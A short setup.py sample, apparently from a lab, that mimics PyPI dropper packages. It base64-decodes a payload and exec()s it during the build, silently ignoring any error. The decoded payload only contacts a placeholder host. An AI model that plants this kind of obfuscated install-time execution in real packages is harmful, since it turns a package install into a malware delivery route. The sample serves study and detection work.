# Shape of many PyPI droppers (e.g. the 2022-2024 "W4SP"-style setup.py loaders):
# a base64 payload decoded and exec'd while the sdist is built.
import base64
from setuptools import setup

PAYLOAD = "aW1wb3J0IHVybGxpYi5yZXF1ZXN0O3VybGxpYi5yZXF1ZXN0LnVybG9wZW4oJ2h0dHBzOi8veC5leGFtcGxlLmludmFsaWQvJyk="
try:
    exec(base64.b64decode(PAYLOAD))
except Exception:
    pass

setup(name="lab-b64-exec", version="0.1.0", py_modules=[])
